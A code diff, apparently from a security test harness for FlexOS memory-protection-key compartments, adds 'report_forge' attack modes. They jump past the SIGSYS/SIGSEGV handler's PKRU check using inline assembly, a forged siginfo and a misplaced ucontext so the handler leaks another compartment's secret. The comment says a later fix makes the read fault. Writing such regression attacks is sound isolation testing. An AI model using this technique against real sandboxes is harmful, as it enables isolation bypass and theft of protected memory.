@@ -1675,6 +1675,56 @@ static long sigsys_smash(void)
 	return 1;
 }
 
+/*
+ * report-forge-sigsys, report-forge-segv (an attack review's): a jump
+ * past the SIGSYS (or SIGSEGV) entry's PKRU check, to where it names its
+ * report's kind, with a siginfo of evil's making (in key-0 memory, which
+ * the report's frame PKRU reads) and a "ucontext" placed so that its
+ * registers (RDI on) lie over app's secret. The report read them with
+ * its PKRU, which reads every compartment, and printed 7 words of app's
+ * memory as the denied call's arguments (SIGSYS), or copied them as the
+ * fault's frame (SIGSEGV). It now reads a frame with the frame PKRU (no
+ * compartment's key): the read faults and the image ends.
+ */
+extern void flexos__mpk_sigsys_entry(int, siginfo_t *, void *);
+extern void flexos__mpk_segv_entry(int, siginfo_t *, void *);
+static volatile uintptr_t forge_at;
+
+static long report_forge(int sigsys, uintptr_t target)
+{
+	const unsigned char *e = sigsys ? (const unsigned char *)flexos__mpk_sigsys_entry
+					: (const unsigned char *)flexos__mpk_segv_entry;
+	/* movl $MPK_REPORT_SYSCALL (10) or $MPK_REPORT_FAULT (0), %r12d */
+	const unsigned char kind[] = {0x41, 0xbc, sigsys ? 0x0a : 0x00, 0x00, 0x00, 0x00};
+	siginfo_t *si =
+	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	size_t off;
+
+	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
+		;
+	if (off == 64 || si == MAP_FAILED)
+		return 0;
+	forge_at = (uintptr_t)e + off;
+	si->si_signo = sigsys ? SIGSYS : SIGSEGV;
+	si->si_code = sigsys ? 1 /* SYS_SECCOMP */ : SEGV_PKUERR;
+	((int *)si)[6] = SYS_pkey_alloc; /* si_syscall */
+	uintptr_t uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
+	fprintf(stderr,
+		"report-forge: a jump to %s+%zu, its ucontext at %#lx (app's secret at %#lx)\n",
+		sigsys ? "flexos__mpk_sigsys_entry" : "flexos__mpk_segv_entry", off,
+		(unsigned long)uc, (unsigned long)target);
+	/*
+	 * r13 the signal, r14 si, r15 uc, as the entry's first lines leave
+	 * them; ZF set, as the SIGSEGV entry's check leaves it for a delivery.
+	 */
+	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
+			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
+			 :
+			 : "r"(si), "r"(uc), "r"((uintptr_t)(sigsys ? SIGSYS : SIGSEGV))
+			 : "r13", "r14", "r15", "memory");
+	return 0;
+}
+
 static long setxid(void)
 {
 	pthread_t t;
@@ -2414,6 +2464,10 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return sigsys_mask();
 	case 75:
 		return sigsys_smash();
+	case 76:
+		return report_forge(1, target);
+	case 77:
+		return report_forge(0, target);
 	case 73: { /* the options the list allows, and one it does not know */
 		unsigned long fs = 0;
 		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
